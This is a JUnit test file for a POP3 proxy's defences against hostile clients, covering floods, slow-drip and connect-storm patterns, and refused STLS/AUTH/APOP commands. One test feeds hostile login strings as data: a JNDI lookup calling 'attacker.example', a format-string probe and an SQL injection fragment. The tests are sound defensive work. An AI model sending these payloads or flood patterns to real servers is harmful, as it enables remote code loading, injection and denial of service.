package org.pop3proxy.engine.hardening;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.pop3proxy.engine.ProxyConfig;
import org.pop3proxy.engine.ProxyServer;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Clients that attack: pipelining, 1-byte segments, control bytes and lookup strings in USER,
 * endless lines, floods of unknown commands, STLS/AUTH/APOP, connect storms, half-open sockets,
 * slow drips and too many connections. Each is answered by the rules or closed, with nothing
 * unwanted reaching the server.
 */
class HostileClientTest {
    static final Duration TIMEOUT = Duration.ofMillis(1000);

    private final List<AutoCloseable> resources = new ArrayList<>();
    private HostileServer server;

    @AfterEach
    void closeAll() throws Exception {
        for (int i = resources.size() - 1; i >= 0; i--) {
            resources.get(i).close();
        }
    }

    /** A server that logs anyone in and answers every command +OK (RETR/LIST with a small body). */
    private ProxyServer proxy(UnaryOperator<ProxyConfig.Builder> tweak) throws IOException {
        server = new HostileServer(c -> {
            c.send("+OK ready");
            String line;
            while ((line = c.readLine()) != null) {
                String verb = line.split(" ", 2)[0];
                if (verb.equals("RETR") || line.equals("LIST")) {
                    c.send("+OK\r\nline one\r\n..dot\r\n.");
                } else if (verb.equals("QUIT")) {
                    c.send("+OK bye");
                    return;
                } else {
                    c.send("+OK " + verb.toLowerCase(java.util.Locale.ROOT));
                }
            }
        });
        resources.add(server);
        ProxyServer proxy = Harness.listen(tweak.apply(Harness.config(server.port(), TIMEOUT)).build());
        resources.add(proxy);
        return proxy;
    }

    private ProxyServer proxy() throws IOException {
        return proxy(b -> b);
    }

    @Test
    void pipelinedCommandsInOneSegmentAreAnsweredInOrder() throws Exception {
        ProxyServer proxy = proxy();
        try (RawClient c = new RawClient(proxy.port())) {
            c.expect("+OK POP3 proxy ready");
            c.raw("USER bob\r\nPASS secret\r\nSTAT\r\nLIST\r\nNOOP\r\nQUIT\r\n".getBytes(StandardCharsets.US_ASCII));
            c.expect("+OK password required").expect("+OK pass").expect("+OK stat")
                    .expect("+OK").expect("line one").expect("..dot").expect(".")
                    .expect("+OK noop").expect("+OK bye");
            assertTrue(c.closedByPeer());
        }
        assertTrue(server.awaitAllEnded(5_000));
        assertEquals(List.of("USER bob", "PASS secret", "STAT", "LIST", "NOOP", "QUIT"), server.received());
    }

    @Test
    void commandsInOneByteSegmentsWork() throws Exception {
        ProxyServer proxy = proxy();
        try (RawClient c = new RawClient(proxy.port())) {
            c.expect("+OK POP3 proxy ready");
            for (String line : List.of("USER bob", "PASS secret", "RETR 1")) {
                for (byte b : (line + "\r\n").getBytes(StandardCharsets.US_ASCII)) {
                    c.raw(new byte[] {b});
                }
                c.readLine();
            }
            c.expect("line one").expect("..dot").expect(".");
        }
        assertTrue(server.awaitAllEnded(5_000));
        assertEquals(List.of("USER bob", "PASS secret", "RETR 1"), server.received());
    }

    @ParameterizedTest(name = "USER with byte 0x{0}")
    @ValueSource(ints = {0x00, 0x0d, 0x1b, 0x07, 0x08, 0x7f, 0x01})
    void controlBytesInUserAreRefusedAndNeverForwarded(int control) throws Exception {
        ProxyServer proxy = proxy();
        try (RawClient c = new RawClient(proxy.port())) {
            c.expect("+OK POP3 proxy ready");
            c.raw(("USER bo" + (char) control + "b\r\n").getBytes(StandardCharsets.ISO_8859_1));
            c.expect("-ERR invalid character in command");
            c.send("PASS secret").expect("-ERR give USER first");
        }
        assertEquals(0, server.connections(), "nothing went upstream");
    }

    @ParameterizedTest(name = "USER {0}")
    @ValueSource(strings = {"${jndi:ldap://attacker.example/a}", "%n%s%x%n", "j\u00f6rg\u20ac@\u4e2d\u6587", "'; DROP TABLE--"})
    void hostileButPrintableLoginsAreOnlyData(String user) throws Exception {
        ProxyServer proxy = proxy();
        byte[] utf8 = user.getBytes(StandardCharsets.UTF_8);
        try (RawClient c = new RawClient(proxy.port())) {
            c.expect("+OK POP3 proxy ready");
            c.raw(concat("USER ".getBytes(StandardCharsets.US_ASCII), utf8, "\r\n".getBytes(StandardCharsets.US_ASCII)));
            c.expect("+OK password required");
            c.send("PASS secret").expect("+OK pass");
        }
        assertTrue(server.awaitAllEnded(5_000));
        String login = new String(utf8, StandardCharsets.ISO_8859_1);
        // SPEC: a colon splits off a proxy login (proxyuser:serverlogin); only the rest goes upstream.
        String serverLogin = login.substring(login.indexOf(':') + 1);
        assertEquals("USER " + serverLogin, server.received().get(0),
                "the login reaches the server byte for byte, uninterpreted");
    }

    @Test
    void aLineOfMegabytesWithoutLineEndIsCutOff() throws Exception {
        ProxyServer proxy = proxy();
        try (RawClient c = new RawClient(proxy.port())) {
            c.expect("+OK POP3 proxy ready");
            CompletableFuture<Void> flood = CompletableFuture.runAsync(() -> {
                byte[] junk = new byte[64 * 1024];
                Arrays.fill(junk, (byte) 'A');
                try {
                    OutputStream out = c.socket().getOutputStream();
                    for (int i = 0; i < 64; i++) {
                        out.write(junk);
                    }
                } catch (IOException expected) {
                    // The proxy closed the connection: that is the point.
                }
            });
            assertTrue(c.closedByPeer(), "a 4 MiB line closes the connection");
            flood.get(10, TimeUnit.SECONDS);
        }
        assertTrue(Harness.awaitNoSessions(proxy, 5_000));
        assertEquals(0, server.connections());
    }

    @Test
    void anOverlongLineGetsAnErrorAndTheSessionGoesOn() throws Exception {
        ProxyServer proxy = proxy();
        try (RawClient c = new RawClient(proxy.port())) {
            c.expect("+OK POP3 proxy ready");
            c.send("USER " + "x".repeat(300)).expect("-ERR line too long");
            c.send("USER bob").expect("+OK password required");
        }
    }

    @Test
    void thousandsOfUnknownCommandsAfterLoginCloseAfterFivePlusOne() throws Exception {
        ProxyServer proxy = proxy();
        StringBuilder flood = new StringBuilder();
        for (int i = 0; i < 5000; i++) {
            flood.append("XYZZY").append(i).append("\r\n");
        }
        int unknown = 0;
        try (RawClient c = new RawClient(proxy.port())) {
            c.login();
            c.raw(flood.toString().getBytes(StandardCharsets.US_ASCII));
            String line;
            while ((line = c.readLine()) != null) {
                assertEquals("-ERR unknown command", line);
                unknown++;
            }
        }
        assertEquals(6, unknown, "5 are allowed, the 6th closes");
        assertTrue(server.awaitAllEnded(5_000));
        assertEquals(List.of("USER bob", "PASS secret"), server.received(), "none of them, and no QUIT, went upstream");
    }

    @Test
    void linesBeforeLoginAreCappedAtSix() throws Exception {
        ProxyServer proxy = proxy();
        StringBuilder flood = new StringBuilder();
        for (int i = 0; i < 5000; i++) {
            flood.append("NOOP\r\n");
        }
        int answers = 0;
        try (RawClient c = new RawClient(proxy.port())) {
            c.expect("+OK POP3 proxy ready");
            c.raw(flood.toString().getBytes(StandardCharsets.US_ASCII));
            while (c.readLine() != null) {
                answers++;
            }
        }
        assertEquals(6, answers);
        assertEquals(0, server.connections());
    }

    @Test
    void stlsAuthApopAndFriendsAreRefusedAndNeverForwarded() throws Exception {
        ProxyServer proxy = proxy();
        List<String> attempts = List.of("STLS", "AUTH PLAIN AGJvYgBzZWNyZXQ=", "AUTH", "APOP bob c4c9334bac560ecc979e58001b3e22fb",
                "CAPA", "UTF8", "XCLIENT ADDR=1.2.3.4");
        try (RawClient c = new RawClient(proxy.port())) {
            c.expect("+OK POP3 proxy ready");
            for (String a : attempts.subList(0, 4)) {
                String reply = c.send(a).readLine();
                assertTrue(reply.startsWith("-ERR"), a + " before login: " + reply);
            }
        }
        try (RawClient c = new RawClient(proxy.port())) {
            c.login();
            for (String a : attempts.subList(0, 5)) {
                String reply = c.send(a).readLine();
                assertTrue(reply.startsWith("-ERR"), a + " after login: " + reply);
            }
            c.send("QUIT").expect("+OK bye");
        }
        assertTrue(server.awaitAllEnded(5_000));
        assertEquals(List.of("USER bob", "PASS secret", "QUIT"), server.received());
    }

    @Test
    void aConnectStormLeavesNothingBehind() throws Exception {
        ProxyServer proxy = proxy();
        for (int i = 0; i < 300; i++) {
            try (RawClient c = new RawClient(proxy.port())) {
                if (i % 3 == 1) {
                    c.readLine();
                } else if (i % 3 == 2) {
                    c.socket().setSoLinger(true, 0); // close with a reset
                }
            }
        }
        assertTrue(Harness.awaitNoSessions(proxy, 10_000), "open: " + proxy.openSessions());
        try (RawClient c = new RawClient(proxy.port())) {
            c.login();
            c.send("QUIT").expect("+OK bye");
        }
        assertEquals(1, server.connections(), "only the real login reached the server");
    }

    @Test
    void aHalfClosedClientEndsTheSessionWithoutAQuit() throws Exception {
        ProxyServer proxy = proxy();
        try (RawClient c = new RawClient(proxy.port())) {
            c.login();
            c.send("STAT").expect("+OK stat");
            c.socket().shutdownOutput();
            assertTrue(c.closedByPeer());
        }
        assertTrue(server.awaitAllEnded(5_000));
        assertEquals(List.of("USER bob", "PASS secret", "STAT"), server.received());
    }

    @Test
    void aClientThatSendsHalfALineAndWaitsIsTimedOut() throws Exception {
        ProxyServer proxy = proxy();
        try (RawClient c = new RawClient(proxy.port())) {
            c.login();
            c.raw("RET".getBytes(StandardCharsets.US_ASCII));
            long start = System.nanoTime();
            byte[] rest = c.readToClose();
            assertEquals("-ERR timeout\r\n", Harness.ascii(rest));
            assertTrue(System.nanoTime() - start < TimeUnit.SECONDS.toNanos(5));
        }
        assertTrue(server.awaitAllEnded(5_000));
        assertFalse(server.receivedVerb("QUIT"));
    }

    @Test
    void aDripFeedingClientHitsTheAuthorizationDeadline() throws Exception {
        ProxyServer proxy = proxy(b -> b.timeout(Duration.ofMillis(800)).authorizationTimeout(Duration.ofMillis(1500)));
        try (RawClient c = new RawClient(proxy.port())) {
            c.expect("+OK POP3 proxy ready");
            long start = System.nanoTime();
            boolean cut = false;
            // The attack: one byte every 200 ms (well under the 800 ms read bound), never a line end.
            for (int i = 0; i < 25 && !cut; i++) {
                try {
                    c.raw(new byte[] {'U'});
                    Thread.sleep(200);
                    c.socket().setSoTimeout(1);
                    cut = c.in().read() < 0;
                } catch (java.net.SocketTimeoutException stillOpen) {
                    // Nothing to read, connection open: go on dripping.
                } catch (IOException closed) {
                    cut = true;
                }
            }
            long took = TimeUnit.NANOSECONDS.toMillis(System.nanoTime() - start);
            assertTrue(cut, "the drip was not cut within " + took + " ms (deadline 1500 ms)");
            assertTrue(took < 4_000, "cut after " + took + " ms");
        }
        assertTrue(Harness.awaitNoSessions(proxy, 5_000));
        assertEquals(0, server.connections());
    }

    @Test
    void aClientDrippingWholeLinesHitsTheAuthorizationDeadline() throws Exception {
        ProxyServer proxy = proxy(b -> b.timeout(Duration.ofMillis(800)).authorizationTimeout(Duration.ofMillis(1500)));
        try (RawClient c = new RawClient(proxy.port())) {
            c.expect("+OK POP3 proxy ready");
            long start = System.nanoTime();
            String reply = "";
            for (int i = 0; i < 5 && reply != null && !reply.equals("-ERR timeout"); i++) {
                Thread.sleep(600); // The attack: a short line every 600 ms, under the 800 ms read bound.
                try {
                    reply = c.send("USER u" + i).readLine();
                } catch (IOException closed) {
                    reply = null;
                }
            }
            long took = TimeUnit.NANOSECONDS.toMillis(System.nanoTime() - start);
            assertTrue(reply == null || reply.equals("-ERR timeout"), "last reply " + reply);
            assertTrue(took < 2_500, "cut after " + took + " ms (deadline 1500 ms)");
        }
        assertTrue(Harness.awaitNoSessions(proxy, 5_000));
        assertEquals(0, server.connections());
    }

    @Test
    void connectionsBeyondThePerClientCapAreRefusedAndTheOthersLive() throws Exception {
        ProxyServer proxy = proxy(b -> b.maxSessionsPerClient(5));
        List<RawClient> held = new ArrayList<>();
        try {
            for (int i = 0; i < 5; i++) {
                RawClient c = new RawClient(proxy.port());
                c.expect("+OK POP3 proxy ready");
                held.add(c);
            }
            for (int i = 0; i < 20; i++) {
                try (RawClient extra = new RawClient(proxy.port())) {
                    String line = extra.readLine();
                    assertTrue(line != null && line.startsWith("-ERR"), "excess connection: " + line);
                    assertTrue(extra.closedByPeer());
                }
            }
            for (RawClient c : held) {
                c.send("USER bob").expect("+OK password required");
            }
            assertNotEquals(0, proxy.openSessions());
        } finally {
            for (RawClient c : held) {
                c.close();
            }
        }
    }

    private static byte[] concat(byte[]... parts) {
        int n = 0;
        for (byte[] p : parts) {
            n += p.length;
        }
        byte[] r = new byte[n];
        int o = 0;
        for (byte[] p : parts) {
            System.arraycopy(p, 0, r, o, p.length);
            o += p.length;
        }
        return r;
    }
}
